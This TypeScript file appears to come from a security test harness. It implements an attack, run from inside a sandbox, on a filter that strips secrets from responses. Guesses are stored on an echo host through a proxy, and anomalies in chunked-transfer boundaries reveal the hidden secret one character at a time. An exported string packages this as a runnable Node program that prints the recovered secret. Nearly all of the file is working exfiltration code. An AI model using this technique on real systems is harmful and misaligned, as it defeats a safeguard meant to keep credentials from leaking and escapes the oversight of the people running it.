/**
 * The agent's side of an attack on what takes secrets out of answers: it stores guesses on a host that returns what it is given, each at
 * the end of what the host sends at once, and looks for the one of which another number of bytes came at first.
 */
import { storePiece } from "./bound-server.ts";

/** Stores a body, reads it again, and gives where what came at once ended, in bytes of the body. */
export type StoreAndRead = (body: string) => Promise<readonly number[]>;

/** What could be found out of a secret that begins so. Stands alone, so that its source can be put into a program. */
export async function recoverSecret(known: string, piece: number, store: StoreAndRead): Promise<string> {
  const signs = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=-_.";
  const findOdd = async (guesses: readonly string[]) => {
    const ends = await store(guesses.map((guess) => guess.padStart(piece, " ")).join(""));
    const missing = guesses.map(
      (_, at) => (at + 1) * piece - Math.max(0, ...ends.filter((end) => end <= (at + 1) * piece)),
    );
    const counts = new Map<number, number>();
    for (const one of missing) counts.set(one, (counts.get(one) ?? 0) + 1);
    const usual = [...counts].toSorted((a, b) => b[1] - a[1])[0]?.[0] ?? 0;
    // One that ends as the secret begins is odd too, by less
    const most = Math.max(...missing.map((one) => Math.abs(one - usual)));
    const odd = guesses.filter((_, at) => Math.abs((missing[at] ?? 0) - usual) === most);
    return odd.length === 1 ? odd[0] : undefined;
  };
  let found = known;
  for (let misses = 0; misses < 2;) {
    // One more behind the last guess, since that one's end would be the end of all
    const guesses = [...[...signs].map((sign) => found + sign), " "];
    const odd = await findOdd(guesses);
    // What chance has held up once is not held up twice
    if (odd !== undefined && odd !== " " && odd === (await findOdd(guesses))) {
      found = odd;
      misses = 0;
    } else misses += 1;
  }
  return found;
}

/** A program for Node in a bottle: its arguments are the host and what is known already. Prints what it has recovered. */
export const attackProgram = `const [host, known = ""] = process.argv.slice(1);
${recoverSecret.toString()}
const ask = (head, body = "") => new Promise((resolve, reject) => {
  setTimeout(() => reject(new Error("no answer to " + head)), 30000).unref();
  const socket = require("net").connect(8888, "gate", () => socket.write("CONNECT " + host + ":443 HTTP/1.1\\r\\n\\r\\n"));
  socket.on("error", reject).once("data", () => {
    let text = "";
    const secure = require("tls").connect({ socket, servername: host }, () =>
      secure.write(head + "\\r\\nHost: " + host + "\\r\\nContent-Length: " + body.length + "\\r\\n\\r\\n" + body));
    secure.setEncoding("latin1").on("error", reject).on("close", () => resolve(text)).on("data", (data) => {
      text += data;
      if (/stored$|\\r\\n0\\r\\n\\r\\n$/.test(text.slice(-8))) secure.destroy(), resolve(text);
    });
  });
});
const store = async (body) => {
  await ask("PUT /store HTTP/1.1", body);
  const text = await ask("GET /store HTTP/1.1");
  const ends = [0];
  for (let at = text.indexOf("\\r\\n\\r\\n") + 4, size = 1; at > 3 && size > 0;) {
    const line = text.indexOf("\\r\\n", at);
    size = parseInt(text.slice(at, line), 16) || 0;
    at = line + 4 + size;
    ends.push(ends.at(-1) + size);
  }
  return ends;
};
recoverSecret(known, ${storePiece}, store).then(console.log, console.log);`;
